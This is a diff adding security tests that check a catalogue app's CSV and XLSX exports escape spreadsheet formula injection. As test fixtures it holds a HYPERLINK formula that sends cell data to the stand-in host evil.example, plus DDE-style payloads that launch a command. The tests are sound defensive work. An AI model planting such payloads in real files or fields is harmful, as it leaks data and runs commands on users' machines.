@@ -1,9 +1,12 @@
+import { parse } from 'csv-parse/sync';
+import ExcelJS from 'exceljs';
 import { AuditEvent } from '@stackgate/audit';
 import { CostCenter, CostCenterKind, ItApprovalStatus, Tool } from '@stackgate/catalog';
 import { Role } from '@stackgate/platform';
 import { makeCast, TestUser, unique } from '../support/factories';
 import { makeCostCenter, makeIntegration, makeTool, makeVendor, subcategory } from '../support/finance-factories';
 import { startTestApp, TestApp } from '../support/test-app';
+import { signIn } from '../support/web';
 import { ALL, allowedRoles, FIELD_PERMISSION_MATRIX, PERMISSION_MATRIX } from './permission-matrix';
 
 /*
@@ -184,4 +187,104 @@ describe('Security: rules hardening (issue 21 items 3, 5, 11, 16)', () => {
     });
   });
 
+  describe('item 5: one CSV writer, formula-looking cells escaped, XLSX cells are strings', () => {
+    const EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&B2,"Open")';
+    const EVIL_DESCRIPTION = "@SUM(1+1)*cmd|' /C calc'!A0";
+    const FORMULA = /^[=+\-@\t\r]/;
+    let evil: { id: string };
+    let partner: { id: string };
+
+    beforeAll(async () => {
+      const vendor = await makeVendor(t, { name: unique('+Vendor') });
+      const sub = await subcategory(t, 'CRM');
+      evil = (await api(cast.marketer, 'post', 'tools', { name: EVIL_NAME, description: EVIL_DESCRIPTION, vendorId: vendor.id, subcategoryId: sub.id, budgetOwnerId: cc.id, capabilities: ['-sms'] }).expect(201)).body;
+      partner = await makeTool(t, { name: `'=${unique('Quoted')}`, vendor, subcategory: 'CRM', budgetOwner: cc });
+      await api(cast.marketer, 'post', 'integrations', { sourceToolId: evil.id, targetToolId: partner.id, dataObjects: ['contacts'], method: 'API', frequency: 'DAILY', notes: '-2+3+cmd|calc' }).expect(201);
+    });
+
+    const download = (path: string) => t.http().get(`/api/v1/${path}`).set(cast.marketer.auth).buffer(true).parse((res, cb) => {
+      const parts: Buffer[] = [];
+      res.on('data', (c: Buffer) => parts.push(c));
+      res.on('end', () => cb(null, Buffer.concat(parts)));
+    });
+    const cellsOf = (csv: Buffer) => parse(csv, { relax_column_count: true }) as string[][];
+    /** Cells a spreadsheet would run as a formula (a plain number such as -5.00 is data). */
+    const formulas = (rows: string[][]) => rows.flat().filter((c) => FORMULA.test(c) && !/^-?\d+(\.\d+)?$/.test(c));
+    const upload = (u: TestUser, kind: string, file: Buffer, name: string, dryRun: boolean) =>
+      t.http().post('/api/v1/imports').set(u.auth).field('kind', kind).field('dryRun', String(dryRun)).attach('file', file, name);
+
+    it('escapes the tools export CSV (OWASP apostrophe) and a re-import of it changes nothing', async () => {
+      const res = await download('tools/export').expect(200);
+      const rows = cellsOf(res.body);
+      const header = rows[0];
+      const row = rows.find((r) => r[header.indexOf('name')] === `'${EVIL_NAME}`);
+      expect(row).toBeDefined();
+      expect(row![header.indexOf('description')]).toBe(`'${EVIL_DESCRIPTION}`);
+      expect(row![header.indexOf('vendor')]).toMatch(/^'\+Vendor/);
+      expect(row![header.indexOf('capabilities')]).toBe("'-sms");
+      const quoted = (await read(`tools/${partner.id}`)).name as string;
+      expect(rows.some((r) => r[header.indexOf('name')] === `'${quoted}`)).toBe(true);
+      expect(formulas(rows)).toEqual([]);
+
+      const before = await read(`tools/${evil.id}`);
+      const report = (await upload(cast.marketer, 'tools', res.body, 'tools.csv', false).expect(200)).body;
+      expect(report.summary).toMatchObject({ create: 0, update: 0, invalid: 0 });
+      expect(await read(`tools/${evil.id}`)).toEqual(before);
+      expect(before).toMatchObject({ name: EVIL_NAME, description: EVIL_DESCRIPTION });
+    });
+
+    it('writes the tools export XLSX as string cells (never a formula) and a re-import of it changes nothing', async () => {
+      const res = await download('tools/export?format=xlsx').expect(200);
+      const wb = new ExcelJS.Workbook();
+      await wb.xlsx.load(res.body);
+      const ws = wb.worksheets[0];
+      const header = (ws.getRow(1).values as unknown[]).slice(1);
+      let found = 0;
+      ws.eachRow((row, n) => {
+        if (n === 1) return;
+        row.eachCell((cell) => {
+          expect(cell.type).toBe(ExcelJS.ValueType.String);
+          expect(cell.formula).toBeUndefined();
+        });
+        if (row.getCell(header.indexOf('name') + 1).value === EVIL_NAME) {
+          found++;
+          expect(row.getCell(header.indexOf('description') + 1).value).toBe(EVIL_DESCRIPTION);
+        }
+      });
+      expect(found).toBe(1);
+      const before = await read(`tools/${evil.id}`);
+      const report = (await upload(cast.marketer, 'tools', res.body, 'tools.xlsx', false).expect(200)).body;
+      expect(report.summary).toMatchObject({ create: 0, update: 0, invalid: 0 });
+      expect(await read(`tools/${evil.id}`)).toEqual(before);
+    });
+
+    it('escapes the integrations export the same way, and a re-import of it changes nothing', async () => {
+      const res = await download('integrations/export').expect(200);
+      const rows = cellsOf(res.body);
+      const header = rows[0];
+      const row = rows.find((r) => r[header.indexOf('sourceTool')] === `'${EVIL_NAME}`);
+      expect(row).toBeDefined();
+      expect(row![header.indexOf('notes')]).toBe("'-2+3+cmd|calc");
+      expect(formulas(rows)).toEqual([]);
+      const report = (await upload(cast.marketer, 'integrations', res.body, 'integrations.csv', false).expect(200)).body;
+      expect(report.summary).toMatchObject({ create: 0, update: 0, invalid: 0 });
+      const xlsx = await download('integrations/export?format=xlsx').expect(200);
+      const wb = new ExcelJS.Workbook();
+      await wb.xlsx.load(xlsx.body);
+      const cells: ExcelJS.Cell[] = [];
+      wb.worksheets[0].eachRow((r) => r.eachCell((c) => cells.push(c)));
+      expect(cells.filter((c) => c.value === EVIL_NAME)).toHaveLength(1);
+      expect(cells.every((c) => c.type === ExcelJS.ValueType.String)).toBe(true);
+    });
+
+    it('escapes report CSVs through the same writer (API and web download)', async () => {
+      const res = await t.http().get('/api/v1/reports/governance?format=csv').set(cast.cio.auth).expect(200);
+      const rows = cellsOf(Buffer.from(res.text));
+      expect(rows.some((r) => r[1] === `'${EVIL_NAME}`)).toBe(true);
+      expect(formulas(rows)).toEqual([]);
+      const agent = await signIn(t, cast.cio);
+      const web = await agent.get('/reports/governance.csv').expect(200);
+      expect(web.text).toBe(res.text);
+    });
+  });
 });
